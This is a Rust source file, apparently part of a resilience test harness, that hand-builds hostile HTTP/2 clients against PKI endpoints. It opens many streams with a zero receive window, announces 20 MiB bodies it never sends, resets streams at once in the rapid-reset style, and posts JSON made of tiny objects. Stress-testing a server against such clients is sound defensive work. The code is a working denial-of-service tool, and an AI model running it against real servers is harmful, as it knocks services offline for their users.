//! Hostile clients of HTTP/2, written frame by frame (RFC 9113): no library does this.
//!
//! Four kinds: streams whose answers are never read; bodies that are announced as long and refused;
//! streams that are reset at once; JSON of many small objects.

use std::io;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::attack::{Counts, TRICKLE};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Streams at once, as many as servers usually allow.
const STREAMS: u32 = 100;

/// Bytes of a body in one frame of DATA, below the 16,384 that every server accepts (RFC 9113, 4.2).
const FRAME: usize = 16_383;

/// Until the connection breaks or the attack ends.
pub(super) async fn harass(stream: TcpStream, number: u64, counts: &Counts) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    writer.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    // INITIAL_WINDOW_SIZE (4): 0 where answers are not read.
    let is_unread = number.is_multiple_of(4);
    let window = if is_unread { 0 } else { 65_535_u32 };
    let setting = [&4_u16.to_be_bytes()[..], &window.to_be_bytes()].concat();
    writer.write_all(&frame(SETTINGS, 0, 0, &setting)).await?;
    tokio::select! {
        ended = attack(&mut writer, number, counts) => ended,
        ended = drain(reader) => ended,
    }
}

async fn attack(writer: &mut OwnedWriteHalf, number: u64, counts: &Counts) -> io::Result<()> {
    // Odd numbers; the first round of each kind is whole.
    let mut stream = 1;
    while counts.is_running() && stream < 1 << 30 {
        let bytes = match number % 4 {
            0 if stream == 1 => several(&mut stream, STREAMS, |stream| {
                headers(stream, "GET", "/v1/pki/crl/pem", None)
            }),
            1 => several(&mut stream, 4, |stream| {
                let long = headers(stream, "POST", "/v1/pki/issue/stored", Some(20 << 20));
                [long, frame(DATA, 0, stream, &[b' '; FRAME])].concat()
            }),
            2 => several(&mut stream, STREAMS / 2, |stream| {
                let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                [headers(stream, "GET", "/v1/pki/crl/pem", None), reset].concat()
            }),
            3 => several(&mut stream, 1, |stream| {
                let body = many_objects();
                let head = headers(stream, "POST", "/v1/pki/issue/stored", Some(body.len()));
                [head, frame(DATA, END_STREAM, stream, &body)].concat()
            }),
            _ => Vec::new(),
        };
        writer.write_all(&bytes).await?;
        // The server must not count a ping as progress.
        writer.write_all(&frame(PING, 0, 0, b"hostile!")).await?;
        tokio::time::sleep(TRICKLE).await;
    }
    Ok(())
}

fn several(stream: &mut u32, count: u32, bytes: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = *stream;
    *stream += 2 * count;
    (0..count).flat_map(|index| bytes(first + 2 * index)).collect()
}

/// Reads and discards, until the server closes.
async fn drain(mut reader: OwnedReadHalf) -> io::Result<()> {
    let mut some = [0; 4_096];
    while reader.read(&mut some).await? > 0 {}
    Ok(())
}

/// JSON of as many values as fit into one frame.
pub(super) fn many_objects() -> Vec<u8> {
    let mut body = b"{\"a\":[{}".to_vec();
    while body.len() < FRAME - 8 {
        body.extend_from_slice(b",{}");
    }
    body.extend_from_slice(b"]}");
    body
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request's headers as literals of HPACK; without a length it has no body.
fn headers(stream: u32, method: &str, path: &str, length: Option<usize>) -> Vec<u8> {
    let length_text = length.map(|length| length.to_string());
    let more = length_text.as_deref().map(|text| ("content-length", text));
    let all = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a")];
    let mut block = Vec::new();
    for (name, value) in all.into_iter().chain(more) {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).expect("a short text"));
            block.extend_from_slice(text.as_bytes());
        }
    }
    let end = if length.is_some() { 0 } else { END_STREAM };
    frame(HEADERS, END_HEADERS | end, stream, &block)
}
